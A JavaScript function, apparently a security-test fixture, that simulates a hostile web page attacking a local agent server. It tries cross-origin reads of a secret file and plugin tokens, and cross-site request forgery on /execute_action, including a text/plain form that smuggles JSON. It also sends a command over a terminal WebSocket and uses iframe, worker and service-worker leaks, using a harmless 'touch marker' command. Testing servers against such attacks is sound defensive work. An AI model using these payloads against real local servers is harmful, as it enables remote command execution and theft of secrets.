// What a hostile page tries, in the page itself: gives what it has read, by the way that it took.

/** Tries everything at the server `target`; what runs there makes the file `marker`. */
async function attack(target, marker) {
    const SECRET = "the-secret-of-the-workspace";
    const LIMIT = 1500;
    const read = {};
    const action = JSON.stringify({ action: { action: "run", args: { command: `touch ${marker}` } } });
    const exec = JSON.stringify({ command: `touch ${marker}` });
    const file = (name) => `${target}/v1/files/content?path=${name}`;
    const notice = (way, value) => {
        if (value) read[way] = String(value).slice(0, 80);
    };
    const within = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, LIMIT))]).catch(() => undefined);
    const element = (tag, attributes, parent = document.body) =>
        new Promise((resolve) => {
            const made = Object.assign(document.createElement(tag), attributes);
            made.onload = () => resolve(made);
            made.onerror = () => resolve(undefined);
            parent.append(made);
        });

    const text = async (way, url, options) => {
        const answer = await fetch(url, options);
        if (answer.ok && answer.type !== "opaque") notice(way, await answer.text());
    };
    const tries = [
        text("fetch of a file", file("secret.txt")),
        text("fetch of a file with cookies", file("secret.txt"), { credentials: "include" }),
        text("fetch without a referrer", file("secret.txt"), { referrerPolicy: "no-referrer" }),
        text("fetch with a language of programs", file("secret.txt"), { headers: { "Accept-Language": "*" } }),
        text("fetch with forged headers", file("secret.txt"), {
            headers: { "X-Forwarded-Host": new URL(target).host, "X-Forwarded-Proto": "https", "X-Session-API-Key": "" },
        }),
        text("fetch of the plugins' tokens", `${target}/v1/plugins`),
        text("fetch of what the server is", `${target}/server_info`),
        text("fetch of the document", `${target}/openapi.json`),
        text("action as JSON", `${target}/execute_action`, { method: "POST", body: action, headers: { "content-type": "application/json" } }),
        text("action as text", `${target}/execute_action`, { method: "POST", body: action }),
        fetch(`${target}/execute_action`, { method: "POST", body: action, mode: "no-cors" }),
        fetch(`${target}/v1/exec`, { method: "POST", body: exec, mode: "no-cors", credentials: "include" }),
        fetch(`${target}/v1/files/content?path=${marker}`, { method: "PUT", body: "made" }),
        new Promise((resolve) => {
            const request = new XMLHttpRequest();
            request.open("POST", `${target}/execute_action`);
            request.onloadend = () => {
                if (request.status === 200) notice("XMLHttpRequest", request.responseText);
                resolve();
            };
            request.send(action);
        }),
        new Promise((resolve) => {
            const socket = new WebSocket(`${target.replace(/^http/, "ws")}/v1/terminals/open/attach`, ["gloveport.terminal.v1"]);
            socket.onopen = () => {
                notice("WebSocket", "open");
                socket.send(`touch ${marker}\n`);
                resolve();
            };
            socket.onerror = resolve;
        }),
        new Promise((resolve) => {
            const events = new EventSource(`${target}/v1/files/watch?path=.`);
            events.onopen = () => {
                notice("EventSource", "open");
                resolve();
            };
            events.onerror = resolve;
        }).then(() => undefined),
        element("script", { src: file("leak.js") }).then(() => notice("script", window.leaked)),
        element("link", { rel: "stylesheet", href: file("leak.css") }).then(() => {
            const color = getComputedStyle(document.body).getPropertyValue("--leaked");
            notice("style", color);
        }),
        element("img", { src: file("dot.png") }).then((image) => notice("picture", image?.naturalWidth)),
        element("iframe", { src: file("leak.html") }).then((frame) => {
            notice("frame", frame?.contentDocument?.body?.textContent.includes(SECRET) ? SECRET : "");
        }),
        element("iframe", { name: "answer" }).then(() => {
            const form = Object.assign(document.createElement("form"), {
                action: `${target}/execute_action`, method: "POST", enctype: "text/plain", target: "answer",
            });
            // The value ends what the name begins: JSON with a field too many.
            const [before, after] = [`${action.slice(0, -1)},"x":"`, `"}`];
            form.append(Object.assign(document.createElement("input"), { name: before, value: after }));
            document.body.append(form);
            form.submit();
            return new Promise((resolve) => setTimeout(resolve, 500));
        }),
        (async () => {
            const opened = window.open(file("leak.html"));
            await new Promise((resolve) => setTimeout(resolve, 800));
            notice("window", opened?.document?.body?.textContent.includes(SECRET) ? SECRET : "");
            opened?.close();
        })(),
        (async () => {
            const worker = new Worker(URL.createObjectURL(new Blob([
                `fetch(${JSON.stringify(file("secret.txt"))}).then((answer) => answer.ok && answer.text()).then(postMessage, () => postMessage(""))`,
            ])));
            notice("worker", await new Promise((resolve) => (worker.onmessage = (event) => resolve(event.data))));
        })(),
        (async () => {
            await navigator.serviceWorker.register(file("leak.js"), { scope: "/v1/files/" });
            notice("service worker of a file", "registered");
        })(),
    ];
    navigator.sendBeacon(`${target}/execute_action`, action);
    await Promise.all(tries.map(within));
    return read;
}
